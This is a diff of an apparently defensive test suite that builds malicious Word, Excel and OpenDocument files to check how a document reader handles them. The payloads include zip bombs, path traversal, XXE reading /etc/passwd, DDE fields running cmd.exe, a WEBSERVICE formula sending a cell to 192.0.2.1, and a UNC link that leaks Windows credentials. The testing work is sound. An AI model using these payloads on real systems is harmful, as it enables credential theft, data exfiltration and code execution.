@@ -8,9 +8,8 @@ import struct
 import zipfile
 import zlib
 from collections.abc import Callable
-from pathlib import Path
 
-from case import READ, YEAR, Case, Put, changed, raw
+from case import READ, Case, Put, changed, raw
 
 Change = Callable[[dict[str, bytes]], dict[str, bytes]]
 WORD, EXCEL, OPEN = "Word", "Excel, numbers", "OpenDocument"
@@ -56,10 +55,17 @@ def related(way: str, kind: str, target: str) -> Put:
     """A relation to a place outside of the file."""
     name = RELATIONS[way]
     one = f'<Relationship Id="rIdX" Type="{KIND}{kind}" Target="{target}" TargetMode="External"/>'.encode()
-    whole = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + one + b"</Relationships>"
+    whole = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + one
+        + b"</Relationships>"
+    )
 
     def edit(found: dict[str, bytes]) -> dict[str, bytes]:
-        return {**found, name: found[name].replace(b"</Relationships>", one + b"</Relationships>") if name in found else whole}
+        return {
+            **found,
+            name: found[name].replace(b"</Relationships>", one + b"</Relationships>") if name in found else whole,
+        }
 
     return changed(way, members(edit))
 
@@ -91,25 +97,94 @@ def _every_kind() -> list[Case]:
         end = {WORD: b"</w:body>", EXCEL: b"</sheetData>", OPEN: b"</office:spreadsheet>"}[way]
         tag = {WORD: "w:sdt", EXCEL: "x", OPEN: "text:span"}[way]
         found += [
-            Case(f"{short}, a member of zeros", "fill memory: 200 MB from 200 kB", "archive-large", added(way, "media/a.bin", bytes(200_000_000)), slow=True),
-            Case(f"{short}, many members", "fill memory: 6.000 members", "archive-large", changed(way, members(lambda found: {**found, **{f"x/{n}": b"" for n in range(6000)}}))),
-            Case(f"{short}, an archive in an archive", "unpack without end", READ, added(way, "media/inner.zip", packed({"a.zip": packed({"b": bytes(900_000)})}))),
-            Case(f"{short}, path upwards", "write outside of the project", READ, added(way, "../../../../tmp/escaped.txt", b"x")),
+            Case(
+                f"{short}, a member of zeros",
+                "fill memory: 200 MB from 200 kB",
+                "archive-large",
+                added(way, "media/a.bin", bytes(200_000_000)),
+                slow=True,
+            ),
+            Case(
+                f"{short}, many members",
+                "fill memory: 6.000 members",
+                "archive-large",
+                changed(way, members(lambda found: {**found, **{f"x/{n}": b"" for n in range(6000)}})),
+            ),
+            Case(
+                f"{short}, an archive in an archive",
+                "unpack without end",
+                READ,
+                added(way, "media/inner.zip", packed({"a.zip": packed({"b": bytes(900_000)})})),
+            ),
+            Case(
+                f"{short}, path upwards",
+                "write outside of the project",
+                READ,
+                added(way, "../../../../tmp/escaped.txt", b"x"),
+            ),
             Case(f"{short}, absolute path", "write outside of the project", READ, added(way, "/tmp/escaped.txt", b"x")),
             Case(f"{short}, drive letter", "write outside of the project", READ, added(way, "C:\\escaped.txt", b"x")),
-            Case(f"{short}, billion laughs", "fill memory by entities", "archive-entities", declared(way, LAUGHS, "&j;")),
-            Case(f"{short}, quadratic entity", "fill memory by one long entity", "archive-entities", declared(way, f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 10)),
-            Case(f"{short}, entity of a file", "read /etc/passwd", "archive-entities", declared(way, '<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;")),
-            Case(f"{short}, entity of an address", "fetch an address", "archive-entities", declared(way, f'<!ENTITY a SYSTEM "{LURE}">', "&a;")),
-            Case(f"{short}, declaration at an address", "fetch an address", "archive-entities", declared(way, f'<!ENTITY % a SYSTEM "{LURE}"> %a;', "")),
+            Case(
+                f"{short}, billion laughs", "fill memory by entities", "archive-entities", declared(way, LAUGHS, "&j;")
+            ),
+            Case(
+                f"{short}, quadratic entity",
+                "fill memory by one long entity",
+                "archive-entities",
+                declared(way, f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 10),
+            ),
+            Case(
+                f"{short}, entity of a file",
+                "read /etc/passwd",
+                "archive-entities",
+                declared(way, '<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
+            ),
+            Case(
+                f"{short}, entity of an address",
+                "fetch an address",
+                "archive-entities",
+                declared(way, f'<!ENTITY a SYSTEM "{LURE}">', "&a;"),
+            ),
+            Case(
+                f"{short}, declaration at an address",
+                "fetch an address",
+                "archive-entities",
+                declared(way, f'<!ENTITY % a SYSTEM "{LURE}"> %a;', ""),
+            ),
             Case(f"{short}, deep elements", "exhaust the stack", "archive-deep", nested(way, tag, end, 10_000)),
-            Case(f"{short}, very many elements", "fill memory by elements", "archive-large", edited(way, body, end, b"<w:p/>".replace(b"w:p", tag.encode()) * 8_000_000 + end), slow=True),
-            Case(f"{short}, cut short", "crash the reader", "archive-broken", changed(way, lambda data: data[: len(data) // 2])),
+            Case(
+                f"{short}, very many elements",
+                "fill memory by elements",
+                "archive-large",
+                edited(way, body, end, b"<w:p/>".replace(b"w:p", tag.encode()) * 8_000_000 + end),
+                slow=True,
+            ),
+            Case(
+                f"{short}, cut short",
+                "crash the reader",
+                "archive-broken",
+                changed(way, lambda data: data[: len(data) // 2]),
+            ),
             Case(f"{short}, encrypted", "ask for a password", "file-encrypted", changed(way, encrypted)),
-            Case(f"{short}, members that overlap", "expand the same bytes often", "archive-broken", changed(way, overlapping)),
-            Case(f"{short}, a name twice", "show one content and read another", "archive-broken", changed(way, doubled(body))),
+            Case(
+                f"{short}, members that overlap",
+                "expand the same bytes often",
+                "archive-broken",
+                changed(way, overlapping),
+            ),
+            Case(
+                f"{short}, a name twice",
+                "show one content and read another",
+                "archive-broken",
+                changed(way, doubled(body)),
+            ),
             Case(f"{short}, a size that lies", "get by the limits", "archive-large", changed(way, lying)),
-            Case(f"{short}, not XML", "crash the parser", "archive-broken", changed(way, members(lambda found, body=body: {**found, body: b"\0\1\2<<<"}))),
+            Case(
+                f"{short}, not XML",
+                "crash the parser",
+                "archive-broken",
+                changed(way, members(lambda found, body=body: {**found, body: b"\0\1\2<<<"})),
+            ),
             Case(f"{short}, a NUL in a name", "end a path early", READ, changed(way, lambda data: data + b"\0")),
             Case(f"{short}, named .pdf", "have another reader take it", "content-suffix", changed(way, bytes, ".pdf")),
             Case(f"{short}, named .csv", "have another reader take it", "content-suffix", changed(way, bytes, ".csv")),
@@ -175,7 +250,8 @@ def random(number: int) -> int:
 def cells(rows: int) -> bytes:
     """Rows of ten cells in a table of Word."""
     return b"".join(
-        b"<w:tr>" + b"<w:tc><w:p><w:r><w:t>%d</w:t></w:r></w:p></w:tc>" % random(n) * 10 + b"</w:tr>" for n in range(rows)
+        b"<w:tr>" + b"<w:tc><w:p><w:r><w:t>%d</w:t></w:r></w:p></w:tc>" % random(n) * 10 + b"</w:tr>"
+        for n in range(rows)
     )
 
 
@@ -190,42 +266,244 @@ CASES = [
     *_every_kind(),
     Case("docx, template elsewhere", "fetch a template with macros", READ, related(WORD, "attachedTemplate", LURE)),
     Case("docx, picture elsewhere", "fetch a picture that tells who reads", READ, related(WORD, "image", LURE)),
-    Case("docx, share elsewhere", "send the password of Windows", READ, related(WORD, "image", "file://192.0.2.1/share/a.png")),
-    Case("docx, part elsewhere", "have text fetched", "word-elsewhere", edited(WORD, BODY[WORD], b"</w:body>", b'<w:altChunk r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:body>')),
+    Case(
+        "docx, share elsewhere",
+        "send the password of Windows",
+        READ,
+        related(WORD, "image", "file://192.0.2.1/share/a.png"),
+    ),
+    Case(
+        "docx, part elsewhere",
+        "have text fetched",
+        "word-elsewhere",
+        edited(
+            WORD,
+            BODY[WORD],
+            b"</w:body>",
+            b'<w:altChunk r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:body>',
+        ),
+    ),
     Case("docx, object elsewhere", "start a program by a link", READ, related(WORD, "oleObject", LURE)),
     Case("docx, DDE field", "start a program by DDE", READ, field(b'DDEAUTO c:\\windows\\cmd.exe "/k calc"')),
     Case("docx, field that includes", "fetch a text", READ, field(b'INCLUDETEXT "http://192.0.2.1/x"')),
     Case("docx, field that includes a picture", "fetch a picture", READ, field(b'INCLUDEPICTURE "http://192.0.2.1/x"')),
     Case("docx, macros", "run macros", "content-format", added(WORD, "word/vbaProject.bin", b"Sub AutoOpen()")),
-    Case("docx, an Excel sheet in it", "hide the figures in an object", "word-sheet", edited(WORD, BODY[WORD], b"</w:body>", b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Excel.Sheet.12"/></w:object></w:r></w:p></w:body>')),
-    Case("docx, tables within tables", "exhaust the stack", "elements-deep", edited(WORD, BODY[WORD], b"</w:body>", tables(60))),
+    Case(
+        "docx, an Excel sheet in it",
+        "hide the figures in an object",
+        "word-sheet",
+        edited(
+            WORD,
+            BODY[WORD],
+            b"</w:body>",
+            b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Excel.Sheet.12"/></w:object></w:r></w:p></w:body>',
+        ),
+    ),
+    Case(
+        "docx, tables within tables",
+        "exhaust the stack",
+        "elements-deep",
+        edited(WORD, BODY[WORD], b"</w:body>", tables(60)),
+    ),
     Case("docx, a span without end", "fill memory by one cell", READ, edited(WORD, BODY[WORD], b"</w:body>", GRID)),
-    Case("docx, 300.000 paragraphs", "take very long", "elements-many", edited(WORD, BODY[WORD], b"</w:body>", b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % random(n) for n in range(300_000)) + b"</w:body>"), slow=True),
-    Case("docx, 200.000 cells", "take very long", "table-large", edited(WORD, BODY[WORD], b"</w:body>", b"<w:tbl>" + cells(20_000) + b"</w:tbl></w:body>"), slow=True),
-    Case("docx, 59.000 cells", "take very long", READ, edited(WORD, BODY[WORD], b"</w:body>", b"<w:tbl>" + cells(5_900) + b"</w:tbl></w:body>"), slow=True),
-    Case("docx, no document in it", "crash the reader", "content-archive", changed(WORD, members(lambda found: {name: text for name, text in found.items() if name != BODY[WORD]}))),
-    Case("docx, relations lost", "crash the reader", "word-damaged", changed(WORD, members(lambda found: {name: text for name, text in found.items() if not name.endswith(".rels")}))),
+    Case(
+        "docx, 300.000 paragraphs",
+        "take very long",
+        "elements-many",
+        edited(
+            WORD,
+            BODY[WORD],
+            b"</w:body>",
+            b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % random(n) for n in range(300_000)) + b"</w:body>",
+        ),
+        slow=True,
+    ),
+    Case(
+        "docx, 200.000 cells",
+        "take very long",
+        "table-large",
+        edited(WORD, BODY[WORD], b"</w:body>", b"<w:tbl>" + cells(20_000) + b"</w:tbl></w:body>"),
+        slow=True,
+    ),
+    Case(
+        "docx, 59.000 cells",
+        "take very long",
+        READ,
+        edited(WORD, BODY[WORD], b"</w:body>", b"<w:tbl>" + cells(5_900) + b"</w:tbl></w:body>"),
+        slow=True,
+    ),
+    Case(
+        "docx, no document in it",
+        "crash the reader",
+        "content-archive",
+        changed(WORD, members(lambda found: {name: text for name, text in found.items() if name != BODY[WORD]})),
+    ),
+    Case(
+        "docx, relations lost",
+        "crash the reader",
+        "word-damaged",
+        changed(
+            WORD, members(lambda found: {name: text for name, text in found.items() if not name.endswith(".rels")})
+        ),
+    ),
     Case("xlsx, book elsewhere", "fetch another book", READ, related(EXCEL, "externalLink", LURE)),
     Case("xlsx, link elsewhere", "open a page", READ, related(EXCEL, "hyperlink", LURE)),
-    Case("xlsx, formula that fetches", "send a cell to a server", READ, formula(b'WEBSERVICE("http://192.0.2.1/"&amp;A1)')),
+    Case(
+        "xlsx, formula that fetches",
+        "send a cell to a server",
+        READ,
+        formula(b'WEBSERVICE("http://192.0.2.1/"&amp;A1)'),
+    ),
     Case("xlsx, DDE formula", "start a program by DDE", READ, formula(b"cmd|'/C calc'!A0")),
     Case("xlsx, formula without value", "be worked out by the reader", "formula-uncached", formula(b"SUM(C1:C9)", b"")),
     Case("xlsx, macros", "run macros", "content-format", added(EXCEL, "xl/vbaProject.bin", b"Sub Auto_Open()")),
     Case("xlsx, binary sheets", "have another reader take it", "content-format", added(EXCEL, "xl/workbook.bin", b"x")),
-    Case("xlsx, a cell far away", "fill memory by blank cells", "sheet-large", edited(EXCEL, BODY[EXCEL], b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')),
-    Case("xlsx, a merge of all cells", "fill memory by one merge", READ, edited(EXCEL, BODY[EXCEL], b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>')),
-    Case("xlsx, many merges", "take very long", "workbook-broken", edited(EXCEL, BODY[EXCEL], b"</sheetData>", b"</sheetData><mergeCells>" + b"".join(b'<mergeCell ref="A20:Z%d"/>' % (20 + random(n) % 9999) for n in range(100_000)) + b"</mergeCells>"), slow=True),
-    Case("xlsx, 900.000 cells", "take very long", "sheet-large", edited(EXCEL, BODY[EXCEL], b"</sheetData>", b"".join(b"<row>" + b"<c><v>%d</v></c>" % random(n) * 9 + b"</row>" for n in range(100_000)) + b"</sheetData>"), slow=True),
-    Case("xlsx, 450.000 cells", "take very long", READ, edited(EXCEL, BODY[EXCEL], b"</sheetData>", b"".join(b"<row>" + b"<c><v>%d</v></c>" % random(n) * 9 + b"</row>" for n in range(50_000)) + b"</sheetData>"), slow=True),
-    Case("xlsx, a shared text without end", "fill memory by a text used often", "sheet-large", changed(EXCEL, members(lambda found: {**found, "xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"a" * 900_000 + b"</t></si></sst>", BODY[EXCEL]: found[BODY[EXCEL]].replace(b"</sheetData>", (b"<row>" + b'<c t="s"><v>0</v></c>' * 10 + b"</row>") * 50 + b"</sheetData>")}))),
-    Case("ods, rows repeated without end", "fill memory by a number", READ, edited(OPEN, BODY[OPEN], b"</table:table>", b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="1000"/></table:table-row></table:table>')),
-    Case("ods, cells repeated without end", "fill memory by a number", "sheet-large", edited(OPEN, BODY[OPEN], b"</table:table>", b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>')),
-    Case("ods, spaces without end", "fill memory by a number", "workbook-broken", edited(OPEN, BODY[OPEN], b"</table:table>", b'<table:table-row><table:table-cell office:value-type="string"><text:p>a<text:s text:c="2000000000"/>b</text:p></table:table-cell></table:table-row></table:table>')),
+    Case(
+        "xlsx, a cell far away",
+        "fill memory by blank cells",
+        "sheet-large",
+        edited(
+            EXCEL, BODY[EXCEL], b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
+        ),
+    ),
+    Case(
+        "xlsx, a merge of all cells",
+        "fill memory by one merge",
+        READ,
+        edited(
+            EXCEL,
+            BODY[EXCEL],
+            b"</sheetData>",
+            b'</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>',
+        ),
+    ),
+    Case(
+        "xlsx, many merges",
+        "take very long",
+        READ,
+        edited(
+            EXCEL,
+            BODY[EXCEL],
+            b"</sheetData>",
+            b"</sheetData><mergeCells>"
+            + b"".join(b'<mergeCell ref="A20:Z%d"/>' % (20 + random(n) % 9999) for n in range(100_000))
+            + b"</mergeCells>",
+        ),
+        slow=True,
+    ),
+    Case(
+        "xlsx, 900.000 cells",
+        "take very long",
+        "sheet-large",
+        edited(
+            EXCEL,
+            BODY[EXCEL],
+            b"</sheetData>",
+            b"".join(b"<row>" + b"<c><v>%d</v></c>" % random(n) * 9 + b"</row>" for n in range(100_000))
+            + b"</sheetData>",
+        ),
+        slow=True,
+    ),
+    Case(
+        "xlsx, 450.000 cells",
+        "take very long",
+        "table-large",
+        edited(
+            EXCEL,
+            BODY[EXCEL],
+            b"</sheetData>",
+            b"".join(b"<row>" + b"<c><v>%d</v></c>" % random(n) * 9 + b"</row>" for n in range(50_000))
+            + b"</sheetData>",
+        ),
+        slow=True,
+    ),
+    Case(
+        "xlsx, a shared text without end",
+        "fill memory by a text used often",
+        "sheet-large",
+        changed(
+            EXCEL,
+            members(
+                lambda found: {
+                    **found,
+                    "xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
+                    + b"a" * 900_000
+                    + b"</t></si></sst>",
+                    BODY[EXCEL]: found[BODY[EXCEL]].replace(
+                        b"</sheetData>", (b"<row>" + b'<c t="s"><v>0</v></c>' * 10 + b"</row>") * 50 + b"</sheetData>"
+                    ),
+                }
+            ),
+        ),
+    ),
+    Case(
+        "ods, rows repeated without end",
+        "fill memory by a number",
+        READ,
+        edited(
+            OPEN,
+            BODY[OPEN],
+            b"</table:table>",
+            b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="1000"/></table:table-row></table:table>',
+        ),
+    ),
+    Case(
+        "ods, cells repeated without end",
+        "fill memory by a number",
+        "sheet-large",
+        edited(
+            OPEN,
+            BODY[OPEN],
+            b"</table:table>",
+            b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>',
+        ),
+    ),
+    Case(
+        "ods, spaces without end",
+        "fill memory by a number",
+        "workbook-broken",
+        edited(
+            OPEN,
+            BODY[OPEN],
+            b"</table:table>",
+            b'<table:table-row><table:table-cell office:value-type="string"><text:p>a<text:s text:c="2000000000"/>b</text:p></table:table-cell></table:table-row></table:table>',
+        ),
+    ),
     Case("ods, macros", "run macros", READ, added(OPEN, "Basic/Standard/Module1.xml", b"<a/>")),
-    Case("ods, picture elsewhere", "fetch a picture", READ, edited(OPEN, BODY[OPEN], b"</table:table>", b'<table:shapes><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://192.0.2.1/x"/></draw:frame></table:shapes></table:table>')),
-    Case("zip with Markdown named .docx", "have an archive unpacked", "content-archive", raw("report.docx", packed({"report.md": b"x" * 500}))),
-    Case("a picture named .docx", "crash the reader", "content-picture", raw("report.docx", b"\x89PNG\r\n\x1a\n" + bytes(500))),
+    Case(
+        "ods, picture elsewhere",
+        "fetch a picture",
+        READ,
+        edited(
+            OPEN,
+            BODY[OPEN],
+            b"</table:table>",
+            b'<table:shapes><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://192.0.2.1/x"/></draw:frame></table:shapes></table:table>',
+        ),
+    ),
+    Case(
+        "zip with Markdown named .docx",
+        "have an archive unpacked",
+        "content-archive",
+        raw("report.docx", packed({"report.md": b"x" * 500})),
+    ),
+    Case(
+        "a picture named .docx",
+        "crash the reader",
+        "content-picture",
+        raw("report.docx", b"\x89PNG\r\n\x1a\n" + bytes(500)),
+    ),
     Case("a program named .xlsx", "be run", "content-unknown", raw("report.xlsx", b"MZ" + bytes(range(256)) * 20)),
-    Case("7z named .xlsx", "have an archive unpacked", "content-archive", raw("report.xlsx", b"7z\xbc\xaf\x27\x1c" + bytes(500))),
-    Case("archive of 2 GB by its own word", "fill memory", "archive-broken", raw("report.xlsx", b"PK\x03\x04" + bytes(26) + b"\xff" * 500)),
+    Case(
+        "7z named .xlsx",
+        "have an archive unpacked",
+        "content-archive",
+        raw("report.xlsx", b"7z\xbc\xaf\x27\x1c" + bytes(500)),
+    ),
+    Case(
+        "archive of 2 GB by its own word",
+        "fill memory",
+        "archive-broken",
+        raw("report.xlsx", b"PK\x03\x04" + bytes(26) + b"\xff" * 500),
+    ),
 ]
